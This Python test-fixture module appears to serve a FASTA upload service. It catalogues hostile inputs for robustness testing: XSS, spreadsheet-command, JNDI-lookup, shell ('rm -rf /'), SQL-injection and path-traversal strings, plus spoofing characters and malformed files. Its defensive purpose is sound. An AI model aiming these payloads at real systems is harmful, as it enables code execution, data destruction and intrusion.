"""Headers, file names and files that somebody might hand in to do harm, or by mistake, each by name.

A header is the text between `>` and the end of its line: any bytes but line feed and carriage return.
"""

import gzip
import io
import zipfile

HEADERS: dict[str, bytes] = {
    # code for a browser
    "script": b"<script>alert(1)</script>",
    "image": b'P1 "><img src=x onerror=alert(1)>',
    "vector": b"<svg/onload=alert(1)>",
    "link": b"<a href=javascript:alert(1)>P1</a>",
    "entity": b"P1 &lt;b&gt; &#x3c;",
    "markdown": b"[P1](javascript:alert(1)) ![x](http://x)",
    # code for a spreadsheet
    "formula": b"=1+1",
    "command formula": b"=cmd|' /C calc'!A0",
    "hyperlink formula": b'=HYPERLINK("http://x","y")',
    "plus": b"+1+1",
    "minus": b"-1+1",
    "at": b"@SUM(A1:A9)",
    "formula after a space": b"   =1+1",
    "formula after a tab": b"\t=1+1",
    "formula after no-break space": "P1 \u00a0=1".encode(),
    "formula after no width": "\u200b=1+1".encode(),
    "formula after a byte-order mark": "\ufeff=1+1".encode(),
    "formula of full width": "＝1＋1".encode(),
    "formula after a semicolon": b"P1;=1+1;",
    "formula after a comma": b"P1, -1+1",
    "formula after a quote": b'P1;"=1+1',
    "formula in quotes": b'"=1+1"',
    # breaks of lines, cells and JSON
    "tab": b"a\tb\tc",
    "quote": b'"P1',
    "quotes": b'P1 "a" , "b"',
    "apostrophe": b"'P1",
    "comma": b"P1,P2;P3|P4",
    "backslash": b"P1\\",
    "JSON": b'P1","status":"predicted","x":"',
    "escaped newline": rb"P1\n\r\t\u000a",
    "vertical tab": b"a\x0bb",
    "form feed": b"a\x0cb",
    "separators of files": b"a\x1cb\x1dc\x1ed\x1fe",
    "next line": "a\u0085b".encode(),
    "line separator": "a\u2028b\u2029c".encode(),
    # control of a terminal or a log
    "colour": b"\x1b[31mP1\x1b[0m",
    "clear screen": b"\x1b[2J\x1b[HP1",
    "title": b"\x1b]0;owned\x07P1",
    "terminal link": b"\x1b]8;;http://x\x1b\\P1\x1b]8;;\x1b\\",
    "eight-bit escape": "\u009b31mP1".encode(),
    "backspace": b"P1\x08\x08P2",
    "bell and delete": b"P1\x07\x7f",
    "log line": b'P1 {"level":"ERROR","message":"all is lost"}',
    "markup": b"[red]P1[/red] :skull:",
    "lookup": b"${jndi:ldap://x/a}",
    "template": b"{{7*7}} ${7*7} #{7*7} <%= 7*7 %> %(x)s {0} %s %n",
    "shell": b"$(touch owned)`id`;rm -rf /|&",
    "SQL": b"P1'; DROP TABLE uploads;--",
    # text that shows as another
    "right-to-left override": "P1 \u202egpj.exe".encode(),
    "isolates": "\u2066P1\u2069 \u2067x\u2069".encode(),
    "Hebrew and Arabic": "שלום P1 مرحبا".encode(),
    "zero width": "P\u200b1\u200d2\u2060".encode(),
    "soft hyphen": "P\u00ad1".encode(),
    "invisible tags": "P1\U000e0041\U000e0042".encode(),
    "look-alike": "Р1".encode(),  # noqa: RUF100 - the first letter is Cyrillic
    "combining": ("P" + "\u0301\u0325" * 60 + "1").encode(),
    "begins with a combining mark": "\u0301P1".encode(),
    "emoji": "🧬👩🏽\u200d🔬 P1".encode(),
    "other scripts": "蛋白 ünï©ødé Ωμέγα".encode(),
    "private use": "P1\ue000\U0010fffd".encode(),
    "not a character": "P1\ufffe\uffff".encode(),
    # bytes that are no text
    "NUL": b"P1\x00P2",
    "Latin-1": "Größe".encode("latin-1"),
    "lone surrogates": b"P1\xed\xa0\x80\xed\xb0\x80",
    "overlong": b"P1\xc0\xaf\xe0\x80\xaf",
    "cut off": "P1蛋".encode()[:-1],
    "no UTF-8 at all": bytes(range(0x80, 0x100)),
    "control characters": bytes(set(range(0x20)) - set(b"\n\r")),
    # too little, or too much
    "empty": b"",
    "blanks": b" \t  ",
    "ideographic blank": "\u3000".encode(),
    "only marks": b">>>",
    "long word": b"P" * 5_000,
    "1 MB": b"P1 " + b"x" * 1_000_000,
    "long emoji": "🧬".encode() * 2_000,
    # addresses and paths
    "up": b"../../etc/passwd",
    "dots": b"..",
    "dot": b".",
    "slash": b"/",
    "slashes": b"a//b/../c",
    "Windows path": rb"C:\Windows\..\x",
    "question": b"a?size=1&cursor=x#y",
    "hash": b"P1#2",
    "percent": b"%00%2e%2e%2f%0d%0aSet-Cookie:x=1",
    "per cent alone": b"100%",
    "plus as blank": b"a+b",
    "address": b"http://169.254.169.254/latest/meta-data",
    "bars": b"||||",
    "half an identifier": b"sp||",
    "identifier of nothing": b"gi|gb|||",
    # values that a table's reader takes for nothing, or for a number
    "null": b"null",
    "NA": b"NA",
    "not a number": b"NaN",
    "exponent": b"1E5",
    "prototype": b"__proto__",
}  # fmt: skip


def shown(header: bytes) -> str:
    """A header as outputs give it that change nothing: UTF-8, or as Windows reads it; at most 1,000 characters."""
    text = header.decode("utf-8", "surrogateescape")
    odd = {
        0xDC00 + byte: bytes((byte,)).decode("cp1252", "ignore") or chr(byte) for byte in range(0x80, 0x100)
    }
    text = text.translate(odd).strip("\0\x1a").strip()
    return text if len(text) <= 1_000 else text[:999] + "…"


FILE_NAMES: tuple[str, ...] = (
    "new\nline \x1b[2J.fasta",
    "\u202eatsaf.fasta",
    "=1+1.fasta",
    "../../up.fasta",
    "<script>alert(1)</script>.fasta",
    "%2e%2e%2f%00 +&?#.fasta",
    "🧬 蛋白.fasta",
)


def _document() -> bytes:
    """A document as a word processor saves it: an archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


FILES: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "found an empty file"),
    "blank lines": (b"\n\n \r\n", "found no record"),
    "a byte-order mark": (b"\xef\xbb\xbf", "found no record"),
    "JPEG": (b"\xff\xd8\xff\xe0\x00\x10JFIF", "found a JPEG image"),
    "PNG": (b"\x89PNG\r\n\x1a\n\0\0", "found a PNG image"),
    "PDF": (b"%PDF-1.7\n>P1\nMKV\n", "found a PDF document"),
    "Word document": (_document(), "found a ZIP archive"),
    "gzip of a document": (gzip.compress(_document()), "found a ZIP archive"),
    "gzip of nothing": (gzip.compress(b""), "found an empty file"),
    "gzip of gzip": (gzip.compress(gzip.compress(b">P1\nMKV\n")), "found a gzip archive in a gzip archive"),
    "gzip cut off": (gzip.compress(b">P1\nMKV\n")[:8], "cut off after 0 bytes"),
    "gzip in name only": (b"\x1f\x8b" + bytes(range(40)), "damaged after 0 bytes"),
    "tar": (b"a.fasta" + bytes(505) + b">P1\nMKV\n", "found binary data"),
    "UTF-16": (">P1\nMKV\n".encode("utf-16"), "found UTF-16 text"),
    "UTF-16 without a mark": (">P1\nMKV\n".encode("utf-16-le"), "found UTF-16 text without"),
    "UTF-32": (">P1\nMKV\n".encode("utf-32"), "found UTF-16 text"),
    "program": (b"\x7fELF\x02\x01\x01\x00", "found binary data"),
    "web page": (b"<!DOCTYPE html>\n<title>404</title>", "found an HTML page"),
    "reads": (b"@read\nACGT\n+\n!!!!\n", "found FASTQ"),
    "steers a terminal": (b"\x1b[2J\x1b]0;owned\x07", "found binary data"),
}  # fmt: skip
"""Files that hold no FASTA, and what is said of each."""
